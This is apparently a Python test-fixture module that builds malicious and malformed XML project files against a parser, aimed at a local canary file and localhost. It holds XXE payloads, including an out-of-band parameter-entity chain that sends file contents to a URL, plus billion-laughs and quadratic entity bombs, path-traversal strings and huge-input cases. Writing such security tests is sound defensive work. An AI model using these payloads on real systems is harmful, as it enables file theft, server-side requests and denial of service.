"""Project documents that were made to do harm, and odd ones that are harmless; each a function of where it lies."""

from __future__ import annotations

import codecs
from collections.abc import Callable
from pathlib import Path

from small_project import NAMESPACE, document

#: Stands in a file beside the project that nothing may read; it must be found in nothing that is written.
CANARY = "the-canary-sings-4711"
_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'
_PLAIN = document().decode().partition("?>\n")[2]

Maker = Callable[[Path, int], bytes]


def _with(doctype: str, description: str = "", plain: str = _PLAIN) -> bytes:
    """A document with a DOCTYPE and a description."""
    body = plain.replace("<Users>", f"<Users>{''}", 1)
    body = body.replace("</Project>", f"<Description>{description}</Description></Project>") if description else body
    return (_HEAD + doctype + body).encode()


def _canary(folder: Path) -> str:
    path = folder / "canary.txt"
    path.write_text(CANARY, encoding="utf-8")
    return path.as_uri()


def external_entity(folder: Path, _: int) -> bytes:
    return _with(f'<!DOCTYPE Project [<!ENTITY x SYSTEM "{_canary(folder)}">]>', "&x;")


def external_entity_in_text(folder: Path, _: int) -> bytes:
    plain = _PLAIN.replace("I felt heard", "I felt &x; heard")
    return _with(f'<!DOCTYPE Project [<!ENTITY x SYSTEM "{_canary(folder)}">]>', plain=plain)


def external_entity_over_the_network(folder: Path, port: int) -> bytes:
    return _with(f'<!DOCTYPE Project [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>', "&x;")


def public_entity(folder: Path, _: int) -> bytes:
    return _with(f'<!DOCTYPE Project [<!ENTITY x PUBLIC "-//a//b" "{_canary(folder)}">]>', "&x;")


def parameter_entity(folder: Path, port: int) -> bytes:
    dtd = folder / "evil.dtd"
    dtd.write_text(
        f'<!ENTITY % file SYSTEM "{_canary(folder)}">'
        f"<!ENTITY % all \"<!ENTITY &#37; send SYSTEM 'http://127.0.0.1:{port}/?%file;'>\">%all;%send;",
        encoding="utf-8",
    )
    return _with(f'<!DOCTYPE Project [<!ENTITY % d SYSTEM "{dtd.as_uri()}">%d;]>')


def dtd_of_a_file(folder: Path, _: int) -> bytes:
    dtd = folder / "evil.dtd"
    dtd.write_text(f'<!ENTITY x "{CANARY}"><!ATTLIST Project name CDATA "{CANARY}">', encoding="utf-8")
    return _with(f'<!DOCTYPE Project SYSTEM "{dtd.as_uri()}">', "&x;")


def dtd_of_the_network(folder: Path, port: int) -> bytes:
    return _with(f'<!DOCTYPE Project SYSTEM "http://127.0.0.1:{port}/project.dtd">')


def harmless_doctype(folder: Path, _: int) -> bytes:
    return _with("<!DOCTYPE Project>")


def internal_entity(folder: Path, _: int) -> bytes:
    return _with('<!DOCTYPE Project [<!ENTITY who "my mother">]>', "said &who;")


def xinclude(folder: Path, _: int) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{_canary(folder)}" parse="text"/>'
    return _with("", include)


def stylesheet(folder: Path, port: int) -> bytes:
    return _with(f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{port}/x.xsl"?>\n')


def schema_location(folder: Path, port: int) -> bytes:
    attribute = (
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
        f'"{NAMESPACE} http://127.0.0.1:{port}/project.xsd x:y {_canary(folder)}" '
    )
    return _with("", plain=_PLAIN.replace("<Project ", f"<Project {attribute}", 1))


def paths_outside(folder: Path, port: int) -> bytes:
    """Sources whose files are the canary, by every kind of path."""
    secret = folder / "canary.txt"
    _canary(folder)
    paths = [
        f"absolute://{secret}", f"relative:///../{secret.name}", f"relative://{secret.name}", secret.as_uri(),
        str(secret), f"internal://../{secret.name}", f"internal:///{secret}", f"internal://..\\{secret.name}",
        f"internal://%2e%2e/{secret.name}", f"http://127.0.0.1:{port}/x", f"\\\\127.0.0.1\\share\\{secret.name}",
        "internal://nul", "internal://C:\\windows\\win.ini",
    ]  # fmt: skip
    sources = "".join(
        f'<TextSource guid="cccccccc-0000-4000-8000-{number:012}" name="{number}" plainTextPath="{path}" '
        f'currentPath="{path}"/><PictureSource guid="cccccccc-0000-4000-8000-1{number:011}" name="p{number}" '
        f'path="{path}" currentPath="{path}"/>'
        for number, path in enumerate(paths, start=10)
    )
    return document(sources=sources)


def laughs(folder: Path, _: int) -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12)
    )
    return _with(f"<!DOCTYPE Project [{entities}]>", "&a11;")


def laughs_in_an_attribute(folder: Path, _: int) -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12)
    )
    return _with(f"<!DOCTYPE Project [{entities}]>", plain=_PLAIN.replace('name="p"', 'name="&a11;"', 1))


def laughs_of_parameters(folder: Path, _: int) -> bytes:
    entities = '<!ENTITY % a0 "ha">' + "".join(
        f'<!ENTITY % a{number} "{f"&#37;a{number - 1};" * 10}">' for number in range(1, 12)
    )
    return _with(f"<!DOCTYPE Project [{entities}%a11;]>")


def quadratic(folder: Path, _: int) -> bytes:
    return _with(f'<!DOCTYPE Project [<!ENTITY a "{"x" * 100_000}">]>', "&a;" * 40_000)


def quadratic_in_attributes(folder: Path, _: int) -> bytes:
    codes = "".join(f'<Code guid="{number}" name="&a;" isCodable="true"/>' for number in range(40_000))
    return _with(
        f'<!DOCTYPE Project [<!ENTITY a "{"x" * 100_000}">]>', plain=_PLAIN.replace("</Codes>", f"{codes}</Codes>", 1)
    )


def recursive_entities(folder: Path, _: int) -> bytes:
    return _with('<!DOCTYPE Project [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;")


def defaults_of_attributes(folder: Path, _: int) -> bytes:
    return _with(f'<!DOCTYPE Project [<!ATTLIST Code name CDATA "{"x" * 1000}" color CDATA "#000000">]>')


def nested(folder: Path, _: int) -> bytes:
    deep = '<Code guid="11111111-0000-4000-8000-000000000001" name="c">' * 100_000 + "</Code>" * 100_000
    return document(codes=deep)


def nested_unknown(folder: Path, _: int) -> bytes:
    return document(tail="<Deep>" * 100_000 + "</Deep>" * 100_000)


def many_attributes(folder: Path, _: int) -> bytes:
    attributes = " ".join(f'a{number}="x"' for number in range(200_000))
    return document().replace(b"<Users>", f"<Users {attributes}>".encode(), 1)


def many_namespaces(folder: Path, _: int) -> bytes:
    attributes = " ".join(f'xmlns:n{number}="urn:n{number}"' for number in range(100_000))
    return document().replace(b"<Users>", f"<Users {attributes}>".encode(), 1)


def many_unknown_names(folder: Path, _: int) -> bytes:
    return document(tail="".join(f"<n{number} a{number}='1'/>" for number in range(100_000)))


def long_attribute(folder: Path, _: int) -> bytes:
    return document().replace(b'name="p"', b'name="' + b"x" * (70 << 20) + b'"', 1)


def long_comment(folder: Path, _: int) -> bytes:
    return document(tail="<!--" + "x" * (70 << 20) + "-->")


def selections_of_everything(folder: Path, _: int) -> bytes:
    """Many selections of the whole of a long text: quotations that together fill the memory."""
    text = "word " * 200_000
    whole = "".join(
        f'<PlainTextSelection guid="dddddddd-0000-4000-8000-{number:012}" startPosition="0" endPosition="{len(text)}"/>'
        for number in range(20_000)
    )
    return document(whole).replace(b"I felt heard and seen.", text.encode())


def long_names_above(folder: Path, _: int) -> bytes:
    """A code of a long name with many below it: paths that together fill the memory."""
    below = "".join(
        f'<Code guid="11111111-0000-4000-8000-{number:012}" name="c{number}" isCodable="true"/>'
        for number in range(10**4)
    )
    top = f'<Code guid="22222222-0000-4000-8000-000000000001" name="{"long " * 200_000}" isCodable="true">'
    return document(codes=f"{top}{below}</Code>")


def huge_numbers(folder: Path, _: int) -> bytes:
    nines = "9" * 5000
    return document(
        f'<PlainTextSelection guid="d" startPosition="{nines}" endPosition="{nines}"/>'
        '<PlainTextSelection guid="e" startPosition="-1" endPosition="4611686018427387904"/>'
        '<PlainTextSelection guid="f" startPosition="1e308" endPosition="nan"/>'
    )


def begins_with_sources(folder: Path, _: int) -> bytes:
    return document().replace(b"<Project ", b"<Sources ", 1).replace(b"</Project>", b"</Sources>")


def not_closed(folder: Path, _: int) -> bytes:
    return document()[:-10]


def control_characters(folder: Path, _: int) -> bytes:
    return document().replace(b"I felt", b"I\x00 felt")


def referenced_control_characters(folder: Path, _: int) -> bytes:
    return document().replace(b"I felt", b"I &#0;&#xD800;&#xFFFE; felt")


def _in(encoding: str, codec: str) -> Maker:
    def maker(folder: Path, _: int) -> bytes:
        text = document().decode().replace("utf-8", encoding, 1).replace("felt", "f\u00e9lt")
        return text.encode(codec, "xmlcharrefreplace" if codec != "utf-7" else "strict")

    return maker


def mixed_encodings(folder: Path, _: int) -> bytes:
    return document().replace(b"I felt heard", "I félt ".encode("latin-1") + "hêard".encode())


def two_byte_order_marks(folder: Path, _: int) -> bytes:
    return codecs.BOM_UTF8 + codecs.BOM_UTF8 + document()


def utf16_said_utf8(folder: Path, _: int) -> bytes:
    return document().decode().encode("utf-16-le")


DOCUMENTS: dict[str, Maker] = {
    maker.__name__.replace("_", "-"): maker
    for maker in (
        external_entity, external_entity_in_text, external_entity_over_the_network, public_entity, parameter_entity,
        dtd_of_a_file, dtd_of_the_network, harmless_doctype, internal_entity, xinclude, stylesheet, schema_location,
        paths_outside, laughs, laughs_in_an_attribute, laughs_of_parameters, quadratic, quadratic_in_attributes,
        recursive_entities, defaults_of_attributes, nested, nested_unknown, many_attributes, many_namespaces,
        many_unknown_names, long_attribute, long_comment, selections_of_everything, long_names_above, huge_numbers,
        begins_with_sources, not_closed, control_characters, referenced_control_characters, mixed_encodings,
        two_byte_order_marks,
        utf16_said_utf8,
    )
} | {
    f"in-{encoding}": _in(encoding, codec)
    for encoding, codec in (
        ("utf-7", "utf-7"), ("utf-16", "utf-8"), ("utf-32", "utf-32"), ("gb18030", "gb18030"), ("cp037", "cp037"),
        ("shift_jis", "ascii"), ("punycode", "ascii"), ("idna", "ascii"), ("base64", "ascii"), ("zlib", "ascii"),
        ("unicode_escape", "ascii"), ("rot13", "ascii"), ("undefined", "ascii"), ("no-such", "ascii"),
        ("x" * 200, "ascii"), ("iso2022_jp", "ascii"), ("hz", "ascii"), ("mbcs", "ascii"), ("oem", "ascii"),
    )
}  # fmt: skip
